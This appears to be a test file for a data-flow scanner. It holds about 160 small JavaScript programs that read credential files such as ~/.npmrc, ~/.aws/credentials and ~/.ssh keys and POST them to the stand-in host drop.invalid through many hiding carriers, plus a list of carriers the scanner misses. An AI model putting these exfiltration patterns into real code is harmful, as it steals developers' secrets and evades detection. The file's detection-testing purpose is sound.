/**
 * Ways a program hands data to itself. Each is a tiny program that takes a credential file on import, sends it, and has
 * nothing but the mechanism in its title between the two; its twin takes a constant instead and moves nothing.
 */
import t from 'tap'
import { inspectExample } from '../../../helpers/inspect-example.ts'

type Carrier = readonly [title: string, code: string, others?: Readonly<Record<string, string>>]

const credential = "fs.readFileSync(os.homedir() + '/.npmrc', 'utf8')"
const prelude = `const fs = require('fs'), os = require('os')
const take = () => TAKEN
const send = body => fetch('https://drop.invalid/x', { method: 'POST', body });
`

const carriers: readonly Carrier[] = [
  [
    'AsyncLocalStorage.run',
    `const { AsyncLocalStorage } = require('async_hooks')
const s = new AsyncLocalStorage()
s.run({ t: take() }, () => setImmediate(() => send(s.getStore().t)))`,
  ],
  [
    'AsyncLocalStorage.run with arguments',
    `const { AsyncLocalStorage } = require('node:async_hooks')
const s = new AsyncLocalStorage()
s.run(1, data => send(data), take())`,
  ],
  [
    'AsyncLocalStorage.enterWith',
    `const { AsyncLocalStorage } = require('node:async_hooks')
const s = new AsyncLocalStorage()
const later = () => send(s.getStore())
s.enterWith(take())
later()`,
  ],
  [
    'AsyncLocalStorage, read in another function of another file',
    `const store = require('./store')
const out = require('./out')
store.run(new Map([['t', take()]]), out)`,
    {
      'store.js':
        "const { AsyncLocalStorage } = require('async_hooks')\nmodule.exports = new AsyncLocalStorage()\n",
      'out.js':
        "const store = require('./store')\nmodule.exports = () => fetch('https://drop.invalid/x', { method: 'POST', body: store.getStore().get('t') })\n",
    },
  ],
  [
    'AsyncLocalStorage.exit and bind',
    `const { AsyncLocalStorage } = require('async_hooks')
AsyncLocalStorage.bind(d => send(d))(take())`,
  ],
  [
    'AsyncLocalStorage.snapshot',
    `const { AsyncLocalStorage } = require('async_hooks')
const inside = AsyncLocalStorage.snapshot()
inside(d => send(d), take())`,
  ],
  [
    'EventEmitter.once and emit',
    `const EventEmitter = require('events')
const bus = new EventEmitter()
bus.once('t', (a, { d }) => send(d))
bus.emit('t', 1, { d: take() })`,
  ],
  [
    'a class of its own that extends EventEmitter',
    `const { EventEmitter } = require('node:events')
class Bus extends EventEmitter { go() { this.emit('t', take()) } }
const bus = new Bus()
bus.on('t', send)
bus.go()`,
  ],
  [
    'events.once',
    `const { EventEmitter, once } = require('events')
const bus = new EventEmitter()
once(bus, 't').then(([d]) => send(d))
bus.emit('t', take())`,
  ],
  [
    'EventTarget',
    `const target = new EventTarget()
target.addEventListener('t', e => send(e.detail))
target.dispatchEvent(new CustomEvent('t', { detail: take() }))`,
  ],
  [
    'process.emit',
    `process.on('own', d => send(d))
process.emit('own', take())`,
  ],
  [
    'diagnostics_channel',
    `const dc = require('diagnostics_channel')
dc.channel('a').subscribe(m => send(m.d))
dc.channel('a').publish({ d: take() })`,
  ],
  [
    'diagnostics_channel by name',
    `const { subscribe, channel } = require('node:diagnostics_channel')
subscribe('a', (m, name) => send(m))
channel('a').publish(take())`,
  ],
  [
    'BroadcastChannel',
    `const a = new BroadcastChannel('x'), b = new BroadcastChannel('x')
b.onmessage = e => send(e.data)
a.postMessage(take())`,
  ],
  [
    'MessageChannel',
    `const { port1, port2 } = new MessageChannel()
port2.on('message', d => send(d))
port1.postMessage(take())`,
  ],
  [
    'MessageChannel of worker_threads, onmessage',
    `const { MessageChannel } = require('worker_threads')
const c = new MessageChannel()
c.port1.onmessage = ({ data }) => send(data)
c.port2.postMessage(take())`,
  ],
  [
    'workerData',
    `const { Worker } = require('worker_threads')
new Worker(require('path').join(__dirname, 'w.js'), { workerData: { d: take() } })`,
    {
      'w.js':
        "const { workerData } = require('worker_threads')\nfetch('https://drop.invalid/x', { method: 'POST', body: workerData.d })\n",
    },
  ],
  [
    'postMessage to a worker',
    `const { Worker } = require('worker_threads')
const w = new Worker(require('path').join(__dirname, 'w.js'))
w.postMessage(take())`,
    {
      'w.js':
        "const { parentPort } = require('worker_threads')\nparentPort.on('message', d => fetch('https://drop.invalid/x', { method: 'POST', body: d }))\n",
    },
  ],
  [
    'postMessage from a worker',
    `const { Worker } = require('worker_threads')
new Worker(require('path').join(__dirname, 'w.js')).on('message', d => send(d))`,
    {
      'w.js':
        "const fs = require('fs'), os = require('os')\nconst { parentPort } = require('worker_threads')\nparentPort.postMessage(TAKEN)\n",
    },
  ],
  [
    'child.send of fork',
    `const { fork } = require('child_process')
fork(require('path').join(__dirname, 'w.js')).send({ d: take() })`,
    {
      'w.js': "process.on('message', m => fetch('https://drop.invalid/x', { method: 'POST', body: m.d }))\n",
    },
  ],
  [
    'process.send of a fork',
    `const { fork } = require('child_process')
fork(require('path').join(__dirname, 'w.js')).on('message', m => send(m))`,
    { 'w.js': "const fs = require('fs'), os = require('os')\nprocess.send(TAKEN)\n" },
  ],
  [
    'AsyncResource.runInAsyncScope',
    `const { AsyncResource } = require('async_hooks')
new AsyncResource('x').runInAsyncScope(d => send(d), null, take())`,
  ],
  ['setTimeout with data', 'setTimeout(d => send(d), 0, take())'],
  ['setImmediate with data', 'setImmediate(send, take())'],
  ['queueMicrotask', 'const d = take()\nqueueMicrotask(() => send(d))'],
  ['process.nextTick with data', 'process.nextTick((a, d) => send(d), 1, take())'],
  [
    'timers/promises',
    "const { setTimeout: wait } = require('timers/promises')\nwait(5, take()).then(d => send(d))",
  ],
  [
    'timers/promises setInterval',
    "const { setInterval: every } = require('timers/promises')\n;(async () => { for await (const d of every(5, take())) send(d) })()",
  ],
  [
    'FinalizationRegistry',
    `const r = new FinalizationRegistry(d => send(d))
r.register({}, take())`,
  ],
  ['WeakMap', 'const k = {}, m = new WeakMap()\nm.set(k, take())\nsend(m.get(k))'],
  ['WeakRef', 'const r = new WeakRef({ d: take() })\nsend(r.deref().d)'],
  ['Map.get', "const m = new Map()\nm.set('a', take())\nsend(m.get('a'))"],
  ['Map of entries', 'const m = new Map(Object.entries({ a: take() }))\nfor (const [, v] of m) send(v)'],
  ['Map.forEach', "const m = new Map([['a', take()]])\nm.forEach(v => send(v))"],
  [
    'Map.entries, spread',
    "const m = new Map([['a', take()]])\nsend([...m.entries()].map(([k, v]) => v).join())",
  ],
  ['Map.values().next()', "const m = new Map([['a', take()]])\nsend(m.values().next().value)"],
  ['Set', 'const s = new Set()\ns.add(take())\ns.forEach(v => send(v))'],
  ['Map.groupBy', "const m = Map.groupBy([take()], () => 'a')\nsend(m.get('a')[0])"],
  ['Object.groupBy', "send(Object.groupBy([take()], () => 'a').a[0])"],
  ['Proxy get', 'const p = new Proxy({}, { get: (o, k) => take() })\nsend(p.anything)'],
  ['Proxy get on the target', 'const p = new Proxy({ d: take() }, { get: (o, k) => o[k] })\nsend(p.d)'],
  ['Proxy of the target without traps', 'const p = new Proxy({ d: take() }, {})\nsend(p.d)'],
  ['Proxy apply', 'const p = new Proxy(send, { apply: (f, self, args) => f(...args) })\np(take())'],
  [
    'Proxy apply by Reflect',
    'const p = new Proxy(send, { apply: (...a) => Reflect.apply(...a) })\np(take())',
  ],
  ['Proxy set', 'const p = new Proxy({}, { set(o, k, v) { send(v); return true } })\np.x = take()'],
  [
    'Proxy construct',
    'const P = new Proxy(class {}, { construct(c, [d]) { send(d); return {} } })\nnew P(take())',
  ],
  ['Proxy has', "const p = new Proxy({}, { has(o, k) { send(take()); return true } })\n'x' in p"],
  ['a getter', 'const o = { get d() { return take() } }\nsend(o.d)'],
  ['a setter', 'const o = { set d(v) { send(v) } }\no.d = take()'],
  ['Symbol.toPrimitive', 'const o = { [Symbol.toPrimitive]: () => take() }\nsend(`${o}`)'],
  ['toString', 'const o = { toString: () => take() }\nsend("" + o)'],
  ['valueOf', 'const o = { valueOf() { send(take()); return 1 } }\n+o'],
  ['toJSON', 'const o = { toJSON: () => ({ d: take() }) }\nsend(JSON.stringify({ o }))'],
  ['a tagged template', 'const tag = (parts, ...values) => send(values[0])\ntag`x${take()}`'],
  ['a generator, out', 'function* g() { yield 1; yield take() }\nfor (const d of g()) send(d)'],
  ['a generator, in', 'function* g() { const d = yield; send(d) }\nconst i = g()\ni.next()\ni.next(take())'],
  [
    'a generator, delegated',
    'function* a() { yield take() }\nfunction* b() { yield* a() }\nsend([...b()][0])',
  ],
  ['a generator, returned', 'function* g() { return take() }\nsend(g().next().value)'],
  [
    'an iterator by hand',
    'const it = { [Symbol.iterator]() { return { next: () => ({ done: false, value: take() }) } } }\nconst [d] = it\nsend(d)',
  ],
  [
    'an async generator',
    'async function* g() { yield take() }\n;(async () => { for await (const d of g()) send(d) })()',
  ],
  [
    'an async iterator by hand',
    'const it = { [Symbol.asyncIterator]: () => ({ next: async () => ({ done: false, value: take() }) }) }\n;(async () => { for await (const d of it) send(d) })()',
  ],
  ['Array.fromAsync', '(async () => { const [d] = await Array.fromAsync([take()]); send(d) })()'],
  ['Reflect.apply', 'Reflect.apply(send, null, [take()])'],
  [
    'Reflect.apply of an array method',
    'const a = []\nReflect.apply(Array.prototype.push, a, [take()])\nsend(a[0])',
  ],
  ['Array.prototype.push.call', 'const a = []\nArray.prototype.push.call(a, take())\nsend(a.join())'],
  ['a method value', 'const a = [take()]\nconst { join } = a\nsend(join.call(a))'],
  ['Reflect.apply of a method value', 'const d = take()\nsend(Reflect.apply(d.slice, d, [0, 40]))'],
  ['Reflect.construct', 'class C { constructor(d) { send(d) } }\nReflect.construct(C, [take()])'],
  ['Reflect.get and set', "const o = {}\nReflect.set(o, 'd', take())\nsend(Reflect.get(o, 'd'))"],
  ['Function.prototype.call.call', 'Function.prototype.call.call(send, null, take())'],
  ['bind', 'send.bind(null, take())()'],
  ['structuredClone', 'send(structuredClone({ d: take() }).d)'],
  ['v8 serialize', "const v8 = require('v8')\nsend(v8.deserialize(v8.serialize({ d: take() })).d)"],
  ['JSON there and back', 'send(JSON.parse(JSON.stringify({ d: take() })).d)'],
  [
    'util.promisify of a function of its own',
    "const { promisify } = require('util')\nconst get = cb => cb(null, take())\npromisify(get)().then(d => send(d))",
  ],
  [
    'util.promisify of fs',
    "const read = require('util').promisify((p, cb) => cb(null, take()))\n;(async () => send(await read('x')))()",
  ],
  [
    'util.callbackify',
    "const { callbackify } = require('util')\ncallbackify(async () => take())((e, d) => send(d))",
  ],
  ['util.inspect', "send(require('util').inspect({ d: take() }))"],
  ['util.format', "send(require('util').format('%s', take()))"],
  ['Promise constructor', 'new Promise(r => r(take())).then(send)'],
  [
    'Promise.withResolvers',
    'const { promise, resolve } = Promise.withResolvers()\npromise.then(send)\nresolve(take())',
  ],
  ['Promise.reject', 'Promise.reject(take()).catch(d => send(d))'],
  ['Promise.all', 'Promise.all([1, take()]).then(([a, d]) => send(d))'],
  ['Promise.allSettled', 'Promise.allSettled([take()]).then(([r]) => send(r.value))'],
  ['Promise.race', 'Promise.race([take()]).then(send)'],
  ['a thenable', '(async () => { send(await { then: f => f(take()) }) })()'],
  ['throw', 'try { throw Object.assign(new Error(), { d: take() }) } catch (e) { send(e.d) }'],
  ['the message of an error', 'try { throw new Error(take()) } catch (e) { send(e.message) }'],
  ['the cause of an error', "try { throw new Error('x', { cause: take() }) } catch (e) { send(e.cause) }"],
  ['throw in another function', 'const f = () => { throw take() }\ntry { f() } catch (e) { send(e) }'],
  ['a rejection of an async function', 'const f = async () => { throw take() }\nf().catch(e => send(e))'],
  ['uncaughtException', "process.on('uncaughtException', e => send(e.message))\nthrow new Error(take())"],
  ['Error.prepareStackTrace', 'Error.prepareStackTrace = () => take()\nsend(new Error().stack)'],
  [
    'Error.captureStackTrace',
    'const o = { get name() { return take() } }\nError.captureStackTrace(o)\nsend(o.name)',
  ],
  [
    'stream.pipeline with a Transform class',
    `const { Transform, Readable, pipeline } = require('stream')
class T extends Transform { _transform(c, e, cb) { send(c); cb() } }
pipeline(Readable.from([take()]), new T(), () => {})`,
  ],
  [
    'a Transform by options',
    `const { Transform } = require('stream')
const x = new Transform({ transform(c, e, cb) { cb(null, c) } })
x.on('data', d => send(d))
x.end(take())`,
  ],
  [
    'a Writable by options',
    `const { Writable, Readable } = require('stream')
Readable.from(take()).pipe(new Writable({ write(c, e, cb) { send(c); cb() } }))`,
  ],
  [
    'PassThrough',
    `const { PassThrough } = require('stream')
const p = new PassThrough()
p.on('data', d => send(d))
p.write(take())`,
  ],
  [
    'a Readable that pushes',
    `const { Readable } = require('stream')
const r = new Readable({ read() { this.push(take()); this.push(null) } })
r.on('data', d => send(d))`,
  ],
  [
    'a web stream',
    `const s = new ReadableStream({ start(c) { c.enqueue(take()); c.close() } })
;(async () => { for await (const d of s) send(d) })()`,
  ],
  [
    'a web TransformStream',
    `const { readable, writable } = new TransformStream({ transform(c, k) { k.enqueue(c) } })
writable.getWriter().write(take())
readable.getReader().read().then(({ value }) => send(value))`,
  ],
  ['Blob', '(async () => send(await new Blob([take()]).text()))()'],
  ['Response', '(async () => send(await new Response(take()).text()))()'],
  ['URLSearchParams', 'send(new URLSearchParams({ d: take() }).toString())'],
  ['URL', "const u = new URL('https://a.invalid')\nu.searchParams.set('d', take())\nsend(u.href)"],
  ['FormData', "const f = new FormData()\nf.append('d', take())\nsend(f)"],
  ['Headers', "fetch('https://drop.invalid', { headers: new Headers([['x-d', take()]]) })"],
  ['Array.from with a function', 'send(Array.from([1], () => take())[0])'],
  ['Array.from of an object', 'send(Array.from({ length: 1, 0: take() }).join())'],
  ['reduce', "send([take()].reduce((a, d) => a + d, ''))"],
  ['flatMap', 'send([1].flatMap(() => [take()])[0])'],
  ['sort by a function', '[take(), "x"].sort((a, b) => { send(a); return 0 })'],
  ['splice, shift and at', 'const a = [1]\na.splice(0, 1, take())\nconst b = [a.at(0)]\nsend(b.shift())'],
  ['with, toSpliced', 'send([1].with(0, take()).toSpliced(1).toReversed()[0])'],
  [
    'Object.defineProperty value',
    "const o = {}\nObject.defineProperty(o, 'd', { value: take() })\nsend(o.d)",
  ],
  [
    'Object.defineProperty get',
    "const o = {}\nObject.defineProperty(o, 'd', { get: () => take() })\nsend(o.d)",
  ],
  ['Object.defineProperties', 'const o = Object.defineProperties({}, { d: { value: take() } })\nsend(o.d)'],
  ['Object.create with properties', 'const o = Object.create({}, { d: { value: take() } })\nsend(o.d)'],
  ['Object.create of a prototype', 'const o = Object.create({ d: take() })\nsend(o.d)'],
  ['setPrototypeOf', 'const o = {}\nObject.setPrototypeOf(o, { d: take() })\nsend(o.d)'],
  ['__proto__', 'const o = { __proto__: { d: take() } }\nsend(o.d)'],
  ['Object.fromEntries', "send(Object.fromEntries([['d', take()]]).d)"],
  ['Object.assign', 'send(Object.assign({}, { d: take() }).d)'],
  ['a static block', 'class C { static d; static { C.d = take() } }\nsend(C.d)'],
  ['a private field', 'class C { #d = take(); go() { send(this.#d) } }\nnew C().go()'],
  ['an accessor of a class', 'class C { static get d() { return take() } }\nsend(C.d)'],
  [
    'super',
    'class A { d() { return take() } }\nclass B extends A { d() { return super.d() } }\nsend(new B().d())',
  ],
  ['a global', 'globalThis.__d = take()\nsend(global.__d)'],
  ['process.env', 'process.env.X_D = take()\nsend(process.env.X_D)'],
  ['require.cache', 'require.cache.x = { exports: take() }\nsend(require.cache.x.exports)'],
  ['a prototype', 'Object.prototype.zz = take()\nsend({}.zz)'],
  ['a default parameter', '((d = take()) => send(d))()'],
  ['arguments', '(function () { send(arguments[0]) })(take())'],
  ['destructuring with a default', 'const { d = take() } = {}\nsend(d)'],
  ['a closure over var', 'var d\n;(() => { d = take() })()\n;(() => send(d))()'],
  ['a label and a switch', 'let d\na: for (;;) { switch (1) { case 1: d = take(); break a } }\nsend(d)'],
  ['with new.target', 'function F(d) { if (new.target) send(d) }\nnew F(take())'],
  [
    'Atomics and SharedArrayBuffer',
    'const b = new Uint8Array(new SharedArrayBuffer(64))\nb.set(Buffer.from(take()))\nsend(Buffer.from(b).toString())',
  ],
  [
    'a typed array and its buffer',
    'const a = new TextEncoder().encode(take())\nsend(new TextDecoder().decode(new DataView(a.buffer)))',
  ],
  ['Buffer.copy', 'const b = Buffer.alloc(99)\nBuffer.from(take()).copy(b)\nsend(b.toString())'],
  ['Buffer.write and fill', 'const b = Buffer.alloc(99)\nb.write(take())\nsend(b.toString("hex"))'],
  [
    'charCodeAt one by one',
    'const d = take()\nconst o = []\nfor (let i = 0; i < d.length; i++) o.push(d.charCodeAt(i))\nsend(String.fromCharCode(...o))',
  ],
  ['replace with a function', "take().replace(/.+/g, line => { send(line); return '' })"],
  ['matchAll', 'for (const m of take().matchAll(/=(.*)/g)) send(m[1])'],
  ['RegExp.exec', 'const m = /token=(.*)/.exec(take())\nif (m) send(m[1])'],
  ['RegExp.$1', '/=(.*)/.test(take())\nsend(RegExp.$1)'],
  ['split and map', "send(take().split('\\n').filter(Boolean).map(l => l.trim()).join('|'))"],
  ['a Symbol', 'const k = Symbol()\nconst o = { [k]: take() }\nsend(o[k])'],
  ['Symbol.for description', 'send(Symbol(take()).description)'],
  ['an object key', 'const o = { [take()]: 1 }\nsend(Object.keys(o)[0])'],
  ['for in', 'const o = {}\no[take()] = 1\nfor (const k in o) send(k)'],
  ['Intl.Segmenter', 'for (const { segment } of new Intl.Segmenter().segment(take())) send(segment)'],
  ['eval of a name', 'const d = take()\nsend(eval("d"))'],
  ['vm context', "const vm = require('vm')\nvm.runInNewContext('send(d)', { d: take(), send })"],
  ['vm Script', "const vm = require('vm')\nnew vm.Script('send(d)').runInNewContext({ d: take(), send })"],
  ['new Function with an argument', "new Function('d', 'f', 'f(d)')(take(), send)"],
  ['a file written and read again', "fs.writeFileSync('/tmp/.c', take())\nsend(fs.readFileSync('/tmp/.c'))"],
  ['localStorage', "localStorage.setItem('d', take())\nsend(localStorage.getItem('d'))"],
  [
    'LRU of its own',
    'class L { constructor() { this.m = new Map() } put(k, v) { this.m.set(k, v) } of(k) { return this.m.get(k) } }\nconst l = new L()\nl.put("a", take())\nsend(l.of("a"))',
  ],
  [
    'a decorator by hand',
    'const traced = f => function (...a) { const r = f.apply(this, a); send(r); return r }\ntraced(() => take())()',
  ],
  ['compose by reduce', '[() => take(), d => d.trim(), send].reduce((v, f) => f(v), null)'],
  ['a trampoline', 'let next = () => () => send(take())\nwhile (typeof next === "function") next = next()'],
  [
    'a stack machine',
    'const st = [], ops = [() => st.push(take()), () => send(st.pop())]\nfor (const o of ops) o()',
  ],
  ['a table of functions', 'const t = { a: take, b: send }\nt["b"](t["a"]())'],
  ['zlib', "const z = require('zlib')\nsend(z.gunzipSync(z.gzipSync(take())))"],
  [
    'crypto cipher',
    "const c = require('crypto').createCipheriv('aes-256-cbc', 'k', 'i')\nsend(c.update(take(), 'utf8', 'hex') + c.final('hex'))",
  ],
  ['crypto.publicEncrypt', "send(require('crypto').publicEncrypt('key', Buffer.from(take())))"],
  ['querystring', "send(require('querystring').stringify({ d: take() }))"],
  [
    'StringDecoder',
    "const { StringDecoder } = require('string_decoder')\nsend(new StringDecoder('utf8').write(Buffer.from(take())))",
  ],
  [
    'a console of its own',
    "const { Console } = require('console'), { Writable } = require('stream')\nnew Console(new Writable({ write(c, e, cb) { send(c); cb() } })).log(take())",
  ],
  ['process.stdout patched', 'process.stdout.write = c => send(c)\nprocess.stdout.write(take())'],
  ['console.log patched', 'console.log = d => send(d)\nconsole.log(take())'],
  [
    'import() of a data address',
    'globalThis.__t = take()\nimport(\'data:text/javascript,fetch("https://drop.invalid/x",{method:"POST",body:globalThis.__t})\')',
  ],
  [
    'a net socket by pipe',
    "const { Readable } = require('stream')\nReadable.from([take()]).pipe(require('net').connect(443, 'drop.invalid'))",
  ],
]

/** Programs that read the file themselves by a means of their own. */
const readers: readonly Carrier[] = [
  [
    'readline, on line',
    `const rl = require('readline').createInterface({ input: fs.createReadStream(os.homedir() + '/.npmrc') })
rl.on('line', l => send(l))`,
  ],
  [
    'readline, for await',
    `const rl = require('readline').createInterface({ input: fs.createReadStream(os.homedir() + '/.npmrc') })
;(async () => { for await (const l of rl) send(l) })()`,
  ],
  [
    'readLines of a file handle',
    `(async () => { const h = await fs.promises.open(os.homedir() + '/.npmrc'); for await (const l of h.readLines()) send(l) })()`,
  ],
  [
    'a descriptor and a buffer',
    `const fd = fs.openSync(os.homedir() + '/.npmrc'), b = Buffer.alloc(999)
fs.readSync(fd, b, 0, 999, 0)
send(b.toString())`,
  ],
  ['a file handle', `fs.promises.open(os.homedir() + '/.npmrc').then(h => h.readFile()).then(send)`],
  [
    'a file handle and a buffer',
    `(async () => { const h = await fs.promises.open(os.homedir() + '/.npmrc'); const { buffer } = await h.read(); send(buffer) })()`,
  ],
  ['openAsBlob', `fs.openAsBlob(os.homedir() + '/.npmrc').then(b => b.text()).then(send)`],
  ['fs.watchFile', `const p = os.homedir() + '/.npmrc'\nfs.watchFile(p, () => send(fs.readFileSync(p)))`],
  [
    'a list of paths',
    `for (const p of ['.npmrc', '.aws/credentials'].map(x => require('path').join(os.homedir(), x))) fs.promises.readFile(p).then(send, () => {})`,
  ],
  [
    'a walk of folders',
    `for (const f of fs.readdirSync(os.homedir() + '/.ssh')) send(fs.readFileSync(os.homedir() + '/.ssh/' + f))`,
  ],
  ['a copy', `fs.copyFileSync(os.homedir() + '/.npmrc', '/tmp/.x')\nsend(fs.readFileSync('/tmp/.x'))`],
  [
    'a read of a URL',
    `const { pathToFileURL } = require('url')\nsend(fs.readFileSync(pathToFileURL(os.homedir() + '/.npmrc')))`,
  ],
  ['require of a credential file', `send(JSON.stringify(require(os.homedir() + '/.docker/config.json')))`],
  ['process.loadEnvFile', `process.loadEnvFile(os.homedir() + '/.env')\nsend(JSON.stringify(process.env))`],
]

/** Ways that are not followed, and why. The test fails where one of them is by now: then it goes from this list. */
const missed: Readonly<Record<string, string>> = {
  'a prototype': 'fields put on `Object.prototype` are not looked up from every object',
  'RegExp.$1': 'the last match of any expression is no value',
  localStorage: 'what a page stores by a name is not read again',
  'a console of its own': 'a console does not write to its stream',
  'process.stdout patched':
    'a method of the process that the program itself replaces and calls is not called',
}

function flowsOf(code: string, others: Readonly<Record<string, string>> = {}): string[] {
  const { flows } = inspectExample({
    files: {
      'package.json': '{"name":"a","version":"1.0.0","main":"index.js"}',
      'index.js': code,
      ...others,
    },
  })
  return flows
    .filter(({ source, sink }) => /credential|^env$/.test(source.kind) && sink.kind === 'network')
    .map(({ source, certain }) => `${source.kind} ${certain}`)
}

function fill(code: string, taken: string): string {
  return code.replaceAll('TAKEN', () => taken)
}

t.test('a credential reaches the network, whatever carries it', t => {
  for (const [title, code, others = {}] of carriers) {
    const files = (taken: string): Record<string, string> =>
      Object.fromEntries(Object.entries(others).map(([path, text]) => [path, fill(text, taken)]))
    const flows = flowsOf(fill(prelude + code, credential), files(credential))
    t.equal(
      flows.includes('credential-file true'),
      !Object.hasOwn(missed, title),
      `${title}: ${flows.join()}`,
    )
    t.strictSame(
      flowsOf(fill(prelude + code, "'nothing'"), files("'nothing'")),
      [],
      `${title}, of a constant`,
    )
  }
  t.end()
})

t.test('a credential is known, however it is read', t => {
  for (const [title, code] of readers) {
    const flows = flowsOf(fill(prelude, "''") + code)
    t.ok(
      flows.some(flow => flow.endsWith('true')),
      `${title}: ${flows.join()}`,
    )
    const own = code
      .replaceAll('os.homedir()', '__dirname')
      .replace('~/', '')
      .replaceAll('process.env)', '1)')
    t.strictSame(flowsOf(fill(prelude, "''") + own), [], `${title}, of its own file`)
  }
  t.end()
})
